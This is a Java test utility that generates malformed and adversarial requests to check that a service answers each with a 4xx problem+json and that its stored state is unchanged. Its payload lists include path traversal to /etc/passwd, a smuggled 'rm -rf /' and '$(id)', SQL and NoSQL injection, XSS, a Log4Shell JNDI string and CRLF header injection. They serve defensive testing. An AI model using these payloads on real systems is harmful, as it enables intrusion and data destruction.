package org.clinlora.testing;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.restassured.RestAssured;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.clinlora.platform.store.ObjectStore;

/**
 * A generated suite of malformed and adversarial requests for one service: wrong types, missing fields, huge bodies,
 * deeply nested JSON, invalid UTF-8, path traversal in names and object keys, negative and huge numbers, unknown enum
 * values, oversized batches — mutations of a request that is itself doomed (it names a model, dataset or adapter that
 * does not exist), so no mutation can legitimately succeed. Every answer must be a 4xx RFC 9457 problem
 * ({@code application/problem+json} with its status, a reason, a detail and a trace id), never a 5xx, never a stack
 * trace, and the service's state must be the same afterwards.
 *
 * <p>An endpoint is a template: {@code {value}} marks a path or query value to attack, with its default inside.
 */
public final class HostileInput {
    public record Endpoint(String method, String template, String contentType, String body) {
        public static Endpoint get(String template) {
            return new Endpoint("GET", template, null, null);
        }

        public static Endpoint json(String method, String template, String body) {
            return new Endpoint(method, template, "application/json", body);
        }
    }

    public record Request(String kind, String method, String path, String contentType, byte[] body) {
        String describe() {
            String b = body == null ? "" : new String(body, 0, Math.min(body.length, 120), StandardCharsets.UTF_8);
            return kind + " " + method + " " + (path.length() > 160 ? path.substring(0, 160) + "…" : path)
                    + (b.isEmpty() ? "" : " body " + b.replace('\n', ' '));
        }
    }

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Pattern PARAM = Pattern.compile("\\{([^}]*)}");

    /**
     * Path and query values: traversal, encodings, lengths, numbers, injections (already percent-encoded). A bare "."
     * is left out: the server resolves it as a dot segment (RFC 3986), which names another, valid resource.
     */
    static final List<String> PATH_VALUES = List.of(
            "..",
            "%2e%2e",
            "..%2f..%2fetc%2fpasswd",
            "%2e%2e%2f%2e%2e%2fsecrets",
            "a%00b",
            "%ff%fe%fd",
            "x".repeat(5000),
            "-1",
            "99999999999999999999999",
            "NaN",
            "%20",
            "a%2Fb",
            "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "name%40%40",
            "UPPER_CASE",
            "%C3%A9t%C3%A9",
            "%25",
            "%3Brm%20-rf%20%2F",
            "%24(id)",
            "null",
            "0x10",
            "1e9",
            "~root",
            "%5C..%5C..%5Cwindows",
            "%E2%80%AE",
            "%F0%9F%92%A9",
            "a%0D%0ASet-Cookie:x=1",
            "%7B%7D",
            "2147483648");

    /** Values put into body fields: wrong types, bounds, traversal, injections, unknown enum values. */
    static List<JsonNode> fieldValues() {
        List<Object> raw = new ArrayList<>(List.of(
                true,
                false,
                0,
                -1,
                -2147483649L,
                new BigInteger("92233720368547758080"),
                1e308,
                -1e308,
                0.5,
                "",
                " ",
                "x".repeat(100_000),
                "../../etc/passwd",
                "..",
                "a/b",
                "\u0000",
                "NaN",
                "Infinity",
                "<script>",
                "' OR 1=1 --",
                "%s%s%s%n",
                "${jndi:ldap://example.invalid/a}",
                "UNKNOWN_ENUM_VALUE",
                "\uD83D\uDCA9",
                "\u202Eevil",
                "１２３",
                "0x1F",
                List.of(),
                Map.of(),
                Map.of("$gt", ""),
                List.of("../x"),
                List.of(List.of(List.of())),
                Map.of("nested", Map.of("deeper", List.of(1, "two")))));
        List<JsonNode> out = new ArrayList<>();
        out.add(JSON.nullNode());
        for (Object o : raw) out.add(JSON.valueToTree(o));
        return out;
    }

    private HostileInput() {}

    public static List<Request> generate(List<Endpoint> endpoints, int atLeast, long seed) {
        List<Request> out = new ArrayList<>();
        List<JsonNode> values = fieldValues();
        for (Endpoint e : endpoints) {
            String path = defaults(e.template());
            byte[] body = e.body() == null ? null : e.body().getBytes(StandardCharsets.UTF_8);
            // Path and query values.
            Matcher m = PARAM.matcher(e.template());
            List<int[]> spans = new ArrayList<>();
            while (m.find()) spans.add(new int[] {m.start(), m.end()});
            for (int i = 0; i < spans.size(); i++) {
                for (String v : PATH_VALUES)
                    out.add(new Request("path", e.method(), substitute(e.template(), i, v), e.contentType(), body));
            }
            out.add(new Request("path", e.method(), path + "/extra/segments/..", e.contentType(), body));
            if (e.body() == null) continue;
            // The body as a whole.
            for (byte[] b : structural(e)) out.add(new Request("structure", e.method(), path, e.contentType(), b));
            for (String ct : List.of(
                    "text/plain",
                    "application/xml",
                    "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x",
                    "application/json; charset=ebcdic")) {
                if (!ct.equals(e.contentType())) out.add(new Request("content-type", e.method(), path, ct, body));
            }
            if (!"application/json".equals(e.contentType())) continue;
            // Field by field (one level of nesting too): removed, or replaced by each hostile value.
            ObjectNode base = (ObjectNode) readTree(e.body());
            for (String[] field : fields(base)) {
                ObjectNode removed = base.deepCopy();
                parentOf(removed, field).remove(field[field.length - 1]);
                out.add(new Request("missing-field", e.method(), path, e.contentType(), bytes(removed)));
                for (JsonNode v : values) {
                    ObjectNode b = base.deepCopy();
                    parentOf(b, field).set(field[field.length - 1], v);
                    out.add(new Request("field", e.method(), path, e.contentType(), bytes(b)));
                }
                // Oversized batches where the field is a list.
                if (at(base, field).isArray()) {
                    for (int n : new int[] {20_000, 200_000}) {
                        ObjectNode b = base.deepCopy();
                        ArrayNode big = b.arrayNode();
                        for (int i = 0; i < n; i++) big.add("note " + i);
                        parentOf(b, field).set(field[field.length - 1], big);
                        out.add(new Request("batch", e.method(), path, e.contentType(), bytes(b)));
                    }
                }
            }
        }
        // Top up with random combinations: several fields at once.
        SplittableRandom rnd = new SplittableRandom(seed);
        List<Endpoint> withJson = endpoints.stream()
                .filter(e -> "application/json".equals(e.contentType()) && e.body() != null)
                .toList();
        while (out.size() < atLeast) {
            if (withJson.isEmpty()) {
                Endpoint e = endpoints.get(rnd.nextInt(endpoints.size()));
                int params = (int) PARAM.matcher(e.template()).results().count();
                String p = e.template();
                for (int i = params - 1; i >= 0; i--)
                    p = substitute(p, i, PATH_VALUES.get(rnd.nextInt(PATH_VALUES.size())));
                out.add(new Request(
                        "random",
                        e.method(),
                        p,
                        e.contentType(),
                        e.body() == null ? null : e.body().getBytes(StandardCharsets.UTF_8)));
                continue;
            }
            Endpoint e = withJson.get(rnd.nextInt(withJson.size()));
            ObjectNode b = (ObjectNode) readTree(e.body());
            List<String[]> fs = fields(b);
            int k = 2 + rnd.nextInt(3);
            for (int i = 0; i < k; i++) {
                String[] f = fs.get(rnd.nextInt(fs.size()));
                if (f.length > 1 && !b.path(f[0]).isObject()) continue; // its parent was replaced by an earlier pick
                parentOf(b, f).set(f[f.length - 1], values.get(rnd.nextInt(values.size())));
            }
            out.add(new Request("random", e.method(), defaults(e.template()), e.contentType(), bytes(b)));
        }
        return out;
    }

    /**
     * Sends every request with {@code token}; asserts the contract and that {@code state} is unchanged; prints counts.
     */
    public static void run(String service, List<Request> requests, String token, Supplier<Object> state) {
        Object before = state.get();
        HttpClient http = HttpClient.newBuilder()
                .version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(5))
                .build();
        Map<Integer, Integer> byStatus = new TreeMap<>();
        Map<String, Integer> byKind = new LinkedHashMap<>();
        List<String> failures = new ArrayList<>();
        for (Request r : requests) {
            byKind.merge(r.kind(), 1, Integer::sum);
            HttpResponse<String> resp = send(http, r, token);
            int status = resp.statusCode();
            byStatus.merge(status, 1, Integer::sum);
            String body = resp.body() == null ? "" : resp.body();
            String problem = null;
            if (status < 400 || status >= 500) problem = "answered " + status;
            else if (body.contains("\tat ")
                    || body.contains("Exception")
                    || body.contains(".java:")
                    || body.contains("org.jboss")
                    || body.contains("io.quarkus")) problem = "leaks internals";
            else if (!isProblem(resp)) problem = "no problem+json with a reason";
            if (problem != null && failures.size() < 25)
                failures.add(problem + ": " + r.describe() + " -> " + status + " "
                        + (body.length() > 300 ? body.substring(0, 300) : body));
            else if (problem != null) failures.add("");
        }
        Object after = state.get();
        System.out.printf(
                "%s hostile input: %d requests %s; answers by status %s; 5xx %d; failures %d%n",
                service,
                requests.size(),
                byKind,
                byStatus,
                byStatus.entrySet().stream()
                        .filter(x -> x.getKey() >= 500)
                        .mapToInt(Map.Entry::getValue)
                        .sum(),
                failures.size());
        assertTrue(
                failures.isEmpty(),
                failures.size() + " requests broke the contract; first ones:\n"
                        + String.join(
                                "\n",
                                failures.stream().filter(f -> !f.isEmpty()).toList()));
        assertEquals(before, after, "hostile requests changed the service's state");
    }

    /** The bucket's state: every key with its size (what a hostile request must not change). */
    public static Supplier<Object> bucket(ObjectStore store) {
        return () -> {
            Map<String, Long> keys = new TreeMap<>();
            for (String k : store.list("")) keys.put(k, store.size(k).orElse(-1L));
            return keys;
        };
    }

    private static HttpResponse<String> send(HttpClient http, Request r, String token) {
        HttpRequest.Builder b;
        try {
            b = HttpRequest.newBuilder(URI.create(RestAssured.baseURI + ":" + RestAssured.port + r.path()))
                    .timeout(Duration.ofSeconds(60));
        } catch (IllegalArgumentException e) {
            throw new AssertionError("the suite built an unsendable URI: " + r.describe(), e);
        }
        b.header("Authorization", "Bearer " + token);
        if (r.contentType() != null) b.header("Content-Type", r.contentType());
        b.method(
                r.method(),
                r.body() == null
                        ? HttpRequest.BodyPublishers.noBody()
                        : HttpRequest.BodyPublishers.ofByteArray(r.body()));
        HttpRequest req = b.build();
        try {
            try {
                return http.send(req, HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
            } catch (IOException closedUnderUs) {
                // The server may close a kept-alive connection after refusing the previous request (an over-long URL or
                // body): the client then meets a dead connection. Once more, on a fresh one.
                return http.send(req, HttpResponse.BodyHandlers.ofString(StandardCharsets.UTF_8));
            }
        } catch (IOException e) {
            throw new AssertionError(r.describe() + ": the connection failed (" + e + ")", e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError(e);
        }
    }

    /**
     * An RFC 9457 problem about this answer: its media type, its status, a reason, a detail for people and a trace id
     * to find the request by.
     */
    public static boolean isProblem(HttpResponse<String> resp) {
        if (!resp.headers().firstValue("Content-Type").orElse("").startsWith("application/problem+json")) return false;
        try {
            JsonNode n = JSON.readTree(resp.body());
            return n != null
                    && n.path("status").asInt() == resp.statusCode()
                    && n.path("type").asText().startsWith("https://clinlora.org/problems/")
                    && !n.path("title").asText().isBlank()
                    && !n.path("reason").asText().isBlank()
                    && !n.path("detail").asText().isBlank()
                    && !n.path("traceId").asText().isBlank();
        } catch (IOException e) {
            return false;
        }
    }

    private static List<byte[]> structural(Endpoint e) {
        List<byte[]> out = new ArrayList<>();
        byte[] body = e.body().getBytes(StandardCharsets.UTF_8);
        for (String s : List.of(
                "",
                "null",
                "[]",
                "\"a string\"",
                "42",
                "true",
                "{",
                "{\"a\":",
                "{}}",
                e.body() + " trailing",
                e.body() + e.body(),
                "{\"a\":1,\"a\":2}",
                "[" + e.body() + "]",
                "1e400",
                "-0",
                "123456789012345678901234567890",
                "\u0000",
                "{\"\u0000\":1}")) {
            out.add(s.getBytes(StandardCharsets.UTF_8));
        }
        out.add(concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, body)); // byte-order mark
        out.add("[".repeat(100_000).getBytes(StandardCharsets.UTF_8));
        out.add(("{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000)).getBytes(StandardCharsets.UTF_8));
        // Invalid UTF-8 inside the first string value, and in place of the whole body.
        int q = e.body().indexOf('"', e.body().indexOf(':') + 1);
        for (byte[] bad : List.of(
                new byte[] {(byte) 0xC3, 0x28},
                new byte[] {(byte) 0xFF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                new byte[] {(byte) 0xC0, (byte) 0xAF},
                new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80})) {
            if (q > 0)
                out.add(concat(
                        concat(Arrays.copyOfRange(body, 0, q + 1), bad), Arrays.copyOfRange(body, q + 1, body.length)));
            out.add(bad);
        }
        out.add(e.body()
                .replaceFirst("\"([^\"]*)\"\\s*}", "\"\\\\ud800\"}")
                .getBytes(StandardCharsets.UTF_8)); // a lone surrogate escape
        // Huge: 12 MB of padding inside a valid-looking document, and 2 MB of garbage.
        byte[] pad = new byte[12 * 1024 * 1024];
        Arrays.fill(pad, (byte) ' ');
        out.add(concat(concat("[".getBytes(), pad), "]".getBytes()));
        byte[] garbage = new byte[2 * 1024 * 1024];
        new SplittableRandom(7).nextBytes(garbage);
        out.add(garbage);
        return out;
    }

    private static String defaults(String template) {
        return PARAM.matcher(template).replaceAll(mr -> Matcher.quoteReplacement(mr.group(1)));
    }

    /** The template with its {@code i}-th value replaced by {@code v} and every other at its default. */
    private static String substitute(String template, int i, String v) {
        Matcher m = PARAM.matcher(template);
        StringBuilder sb = new StringBuilder();
        int k = 0;
        while (m.find()) m.appendReplacement(sb, Matcher.quoteReplacement(k++ == i ? v : m.group(1)));
        m.appendTail(sb);
        return sb.toString();
    }

    private static List<String[]> fields(ObjectNode o) {
        List<String[]> out = new ArrayList<>();
        for (Iterator<String> it = o.fieldNames(); it.hasNext(); ) {
            String f = it.next();
            out.add(new String[] {f});
            if (o.get(f).isObject())
                for (Iterator<String> in = o.get(f).fieldNames(); in.hasNext(); ) out.add(new String[] {f, in.next()});
        }
        return out;
    }

    private static ObjectNode parentOf(ObjectNode root, String[] field) {
        ObjectNode p = root;
        for (int i = 0; i < field.length - 1; i++) p = (ObjectNode) p.get(field[i]);
        return p;
    }

    private static JsonNode at(ObjectNode root, String[] field) {
        return parentOf(root, field).path(field[field.length - 1]);
    }

    private static JsonNode readTree(String s) {
        try {
            return Objects.requireNonNull(JSON.readTree(s));
        } catch (IOException e) {
            throw new IllegalArgumentException("the endpoint's base body is not JSON: " + s);
        }
    }

    private static byte[] bytes(JsonNode n) {
        try {
            return JSON.writeValueAsBytes(n);
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] concat(byte[] a, byte[] b) {
        ByteArrayOutputStream o = new ByteArrayOutputStream(a.length + b.length);
        o.writeBytes(a);
        o.writeBytes(b);
        return o.toByteArray();
    }
}
